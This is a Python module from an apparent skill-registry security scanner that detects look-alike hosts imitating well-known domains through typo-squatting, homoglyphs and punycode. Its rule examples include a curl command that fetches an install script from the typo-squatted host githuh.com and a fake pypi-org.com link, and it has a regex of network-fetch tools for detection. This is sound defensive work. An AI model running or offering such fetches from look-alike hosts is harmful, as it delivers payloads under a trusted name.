"""Look-alike hosts (R164, R165): hosts made to look like a well-known one.

`lookalike` says why a host imitates one of KNOWN_HOSTS (a well-known name in front of an unrelated
domain, spelled as a new domain, look-alike characters, one letter away, an undecodable punycode
label, mixed scripts) and `judge` spares a domain the skill names as its own (own_names). A look-alike
host named in the text (not contacted), or inside a binary, is R165; `contacted_lookalikes` (a
risk.CARD_RULES entry) rates a look-alike host high (R164) when any analyser saw the skill contact it.
"""

from __future__ import annotations

import functools
import itertools
import re

from rapidfuzz.distance import OSA

from registry.model import Skill
from registry.score.card import FROM_CODE, FROM_INSTRUCTIONS, HOST, AnalyserResult, CapabilityCard, Use
from registry.score.every_byte.characters import _INVISIBLE
from registry.score.every_byte.probe import PER_FILE, _fact, _item, _line_numbers, _lines_on
from registry.score.risk.facts import Row
from registry.score.risk.lines import CODE, CONFIG, DATA, INLINE, TextFile
from registry.score.risk.rules import EVERYWHERE, METADATA, Item, RiskRule, _rule, show
from registry.score.vocabulary import host_of

LOOKALIKE_HOST_CONTACTED = _rule(
    "R164", "high", "exfiltration",
    "look-alike host contacted",
    "contacts {host}, {why_lookalike}",
    "a host made to look like a well-known one is how phishing and typo-squatting deliver payloads and "
    "collect data; a reviewer reads the familiar name and trusts it",
    "Reviewers: check who owns {host}. Authors: use the real service's host.",
    "contacts the look-alike host {host}",
    METADATA,
    "curl https://githuh.com/x/install.sh",
)  # fmt: skip
LOOKALIKE_HOST_MENTIONED = _rule(
    "R165", "medium", "exfiltration",
    "look-alike host named",
    "names {host}, {why_lookalike}",
    "a host made to look like a well-known one misleads the reader and the agent that follows the link",
    "Reviewers: check who owns {host}. Authors: use the real service's host.",
    "names the look-alike host {host}",
    EVERYWHERE,
    "See https://pypi-org.com/project/requests",
)  # fmt: skip

# The rules declared here; the package's RULES gathers every module's, R150-R169 in order.
RULES: tuple[RiskRule, ...] = (
    LOOKALIKE_HOST_CONTACTED,
    LOOKALIKE_HOST_MENTIONED,
)

# What the checks below find, and the rule each fact is given (rows of the one fact table).
LOOKALIKE_NAMED = "names a look-alike host"
ROWS = (Row(LOOKALIKE_NAMED, LOOKALIKE_HOST_MENTIONED),)


# -- hosts ---------------------------------------------------------------------------------

# Well-known hosts whose look-alikes are worth a finding: code hosts, package registries, AI and
# cloud vendors, payment and wallet services. Real subdomains (docs.github.com) never fire.
KNOWN_HOSTS = (
    "github.com", "githubusercontent.com", "githubassets.com", "gitlab.com", "bitbucket.org", "pypi.org",
    "pythonhosted.org", "python.org", "npmjs.com", "npmjs.org", "yarnpkg.com", "nodejs.org", "anthropic.com",
    "claude.ai", "claude.com", "openai.com", "chatgpt.com", "google.com", "googleapis.com", "gstatic.com",
    "googleusercontent.com", "microsoft.com", "windows.net", "azure.com", "live.com", "office.com", "outlook.com",
    "apple.com", "icloud.com", "amazonaws.com", "amazon.com", "cloudflare.com", "docker.com", "docker.io",
    "huggingface.co", "rust-lang.org", "crates.io", "rubygems.org", "golang.org", "brew.sh", "stripe.com",
    "paypal.com", "slack.com", "discord.com", "telegram.org", "dropbox.com", "vercel.com", "netlify.com",
    "supabase.co", "coinbase.com", "binance.com", "metamask.io", "phantom.app", "ledger.com", "trezor.io",
    "facebook.com", "twitter.com", "linkedin.com", "mozilla.org", "debian.org", "ubuntu.com", "jsdelivr.net",
    "unpkg.com", "astral.sh", "deno.land", "nuget.org", "packagist.org", "sourceforge.net", "atlassian.com",
    "notion.so", "figma.com", "shopify.com", "salesforce.com", "okta.com", "auth0.com", "mongodb.com",
)  # fmt: skip
_KNOWN_SET = frozenset(KNOWN_HOSTS)
# Real domains one letter away from a well-known name: never look-alikes.
KNOWN_NEIGHBOURS = frozenset({"openapi", "opencv", "gitlab", "github", "gitee", "googl", "goggles", "dockerhub"})
_GENERIC_TLDS = frozenset(
    {"com", "org", "net", "io", "co", "ai", "dev", "app", "sh", "so", "xyz", "info", "site", "online", "top", "cc",
     "me", "us", "pro", "live", "link", "click", "tech", "cloud"}
)  # fmt: skip
_SECOND_LEVEL = frozenset({"co", "com", "org", "net", "ac", "gov", "edu", "ne", "or"})
_DIGIT_SWAPS = (("0", "o"), ("1", "l"), ("3", "e"), ("5", "s"), ("rn", "m"), ("vv", "w"), ("cl", "d"))
_URL = re.compile(r"(?:https?|ftp|wss?|git|ssh|sftp)://[^\s<>\"'`()\[\]{}|\\^]{1,300}", re.IGNORECASE)
_HOST_PROBE = re.compile(rb"://|xn--", re.IGNORECASE)
_CONTACT = re.compile(
    r"\b(?:curl|wget|fetch|requests\.\w+|urlopen|urlretrieve|httpx|aiohttp|axios|got|http\.(?:get|request)|"
    r"Invoke-WebRequest|Invoke-RestMethod|iwr|irm|git\s+clone|pip3?\s+install|npm\s+(?:i|install)|open|xdg-open|"
    r"start|WebClient|DownloadString|DownloadFile|socket|connect|ws\.|WebSocket|XMLHttpRequest|sendBeacon)\b",
    re.IGNORECASE,
)


def registrable(labels: list[str]) -> str:
    if len(labels) >= 3 and labels[-2] in _SECOND_LEVEL and len(labels[-1]) == 2:
        return ".".join(labels[-3:])
    return ".".join(labels[-2:])


@functools.lru_cache(maxsize=4096)
def lookalike(host: str) -> str:
    """Why `host` imitates a well-known host, or "" when it does not (see KNOWN_HOSTS)."""
    host = host.rstrip(".").lower()
    if not host or "." not in host or host.replace(".", "").isdigit() or ":" in host:
        return ""
    labels = host.split(".")
    decoded: list[str] = []
    for label in labels:
        if label.startswith("xn--"):
            try:
                label = label.encode("ascii").decode("idna")
            except (UnicodeError, ValueError):
                return f"a punycode label ({label}) that does not decode"
        decoded.append(label)
    unicode_host = ".".join(decoded)
    if not unicode_host.isascii():
        return _unicode_lookalike(unicode_host, host)
    if host in _KNOWN_SET or any(host.endswith("." + known) for known in KNOWN_HOSTS):
        return ""
    domain = registrable(labels)
    for known in KNOWN_HOSTS:
        if f".{known}." in f".{host}" and not host.endswith(known):
            return f"which puts {known} in front of the unrelated domain {domain}"
    name, _, tld = domain.partition(".")
    swapped = _swap(name)
    for known in KNOWN_HOSTS:
        known_name, _, known_tld = known.partition(".")
        if name == known_name:
            continue
        if name in (f"{known_name}-{known_tld}", f"{known_name}{known_tld}"):
            return f"which spells {known} as a new domain"
        if known_name in swapped:
            return f"which imitates {known} with look-alike characters"
        if (
            len(known_name) >= 6
            and name not in KNOWN_NEIGHBOURS
            and (tld == known_tld or tld in _GENERIC_TLDS)
            and OSA.distance(name, known_name, score_cutoff=1) <= 1
        ):
            return f"one letter away from {known}"
    return ""


def own_names(skill: Skill) -> frozenset[str]:
    """Words the skill openly names itself with (its name, description, homepage and repository hosts).

    A skill about its own service (GIMHub at gimhub.dev) is not imitating github.com: a look-alike
    deceives only when the skill does not say whose host it is.
    """
    words = " ".join(str(v or "") for v in (skill.name, skill.description)).lower()
    own = set(re.findall(r"[a-z0-9][a-z0-9-]{2,62}", words))
    for value in (skill.homepage, skill.repository):
        host = host_of(str(value or ""))
        if host:
            own.add(registrable(host.split(".")).partition(".")[0])
    return frozenset(own)


def judge(host: str, own: frozenset[str] = frozenset()) -> str:
    """`lookalike(host)`, except for ASCII hosts whose domain name the skill names as its own."""
    verdict = lookalike(host)
    plain = host.isascii() and "xn--" not in host
    if verdict and plain and registrable(host.split(".")).partition(".")[0] in own:
        return ""
    return verdict


def _swap(name: str) -> set[str]:
    variants = {name}
    for old, new in _DIGIT_SWAPS:
        variants |= {variant.replace(old, new) for variant in variants}
    variants |= {variant.replace("1", "i") for variant in variants}
    variants.discard(name)
    return variants


def _unicode_lookalike(unicode_host: str, host: str) -> str:
    from confusable_homoglyphs import categories  # imported on first use: its tables take 30 ms to load

    shown = unicode_host if unicode_host == host else f"{unicode_host} ({host})"
    skeleton = "".join(_latin_skeleton(ch) for ch in unicode_host)
    if skeleton != unicode_host and skeleton.isascii():
        for known in KNOWN_HOSTS:
            if skeleton == known or skeleton.endswith("." + known):
                return f"which reads as {known} but is {shown}, written with look-alike letters"
    for label in unicode_host.split("."):
        scripts = {categories.alias(ch) for ch in label if ch.isalpha()} - {"COMMON"}
        if len(scripts) > 1:
            return f"whose label '{label}' mixes {' and '.join(sorted(s.title() for s in scripts))} letters"
    return ""


@functools.lru_cache(maxsize=2048)
def _latin_skeleton(ch: str) -> str:
    if ch.isascii():
        return ch
    from confusable_homoglyphs import confusables

    found = confusables.is_confusable(ch, greedy=True, preferred_aliases=["latin"]) or []
    for entry in found:
        for glyph in entry.get("homoglyphs", []):
            candidate = glyph.get("c", "")
            if candidate.isascii() and candidate:
                return candidate.lower()
    return ch


_HOST_AT = re.compile(rb"(?:[^\s/@?#\"'<>`()\[\]{}|\\^]{0,200}@)?([^\s/:?#\"'<>`()\[\]{}|\\^@,;*]{1,253})")
_PUNYCODE_HOST = re.compile(
    r"(?i)(?<![a-z0-9.-])(?:[a-z0-9-]{1,63}\.)*xn--[a-z0-9-]{1,59}(?:\.[a-z0-9-]{1,63})*\.[a-z]{2,63}"
)


def _hosts(file: TextFile, data: bytes, offsets: list[int], own: frozenset[str], result: AnalyserResult) -> None:
    """Look-alike hosts: each `://` and `xn--` the probe found, its host judged once per skill run."""
    flagged: list[int] = []
    for offset in offsets[:2000]:
        start = offset + 3 if data[offset : offset + 3] == b"://" else max(0, data.rfind(b"\n", 0, offset) + 1)
        if start == offset + 3:
            match = _HOST_AT.match(data, start)
            raw = match.group(1) if match else b""
        else:
            raw = data[start : start + 300]
        text = raw.decode("utf-8", "replace")
        if start != offset + 3:
            found = _PUNYCODE_HOST.search(text)
            text = found.group(0) if found else ""
        host = _INVISIBLE.sub("", text).rstrip(".").lower()
        if host and judge(host, own):
            flagged.append(offset)
    if not flagged:
        return
    origin = FROM_CODE if file.kind == "script" else FROM_INSTRUCTIONS
    count = 0
    seen: set[tuple[int, str]] = set()
    for _index, line in _lines_on(file, _line_numbers(data, flagged)):
        text = line.text
        candidates = [m.group(0) for m in itertools.islice(_URL.finditer(text), 200)]
        if "xn--" in text.lower():
            candidates += [m.group(0) for m in itertools.islice(_PUNYCODE_HOST.finditer(text), 200)]
        for url in candidates:
            host = host_of(_INVISIBLE.sub("", url))
            verdict = judge(host, own) if host else ""
            if not verdict:
                continue
            start = text.find(url)
            number, column = line.locate(max(0, start))
            if (number, host) in seen:
                continue
            seen.add((number, host))
            contacted = line.context in (CODE, CONFIG, DATA, INLINE) and _CONTACT.search(text) is not None
            detail = "fetch" if contacted else "mention"
            result.uses.append(Use(HOST, host, line.path, number, origin, "look-alike host", detail, show(text)))
            if not contacted:
                result.facts.append(
                    _fact(LOOKALIKE_NAMED, line.path, number, show(url), column, host=host,
                          why_lookalike=verdict)
                )  # fmt: skip
            count += 1
            if count >= PER_FILE:
                return


def contacted_lookalikes(skill: Skill, card: CapabilityCard, files: list[TextFile]) -> list[Item]:
    """risk.CARD_RULES entry: a look-alike host that any analyser saw the skill send to, fetch or open."""
    out: list[Item] = []
    seen: set[tuple[str, str, int | None]] = set()
    own = own_names(skill)
    for use in card.uses:
        if use.kind != HOST or use.detail not in ("send", "fetch", "open"):
            continue
        host = host_of(use.value)
        verdict = judge(host, own) if host else ""
        key = (host, use.path, use.line)
        if not verdict or key in seen:
            continue
        seen.add(key)
        out.append(_item(LOOKALIKE_HOST_CONTACTED, use.path, use.line, use.evidence or host, host=host,
                         why_lookalike=verdict))  # fmt: skip
        if len(out) >= PER_FILE * 4:
            break
    return out
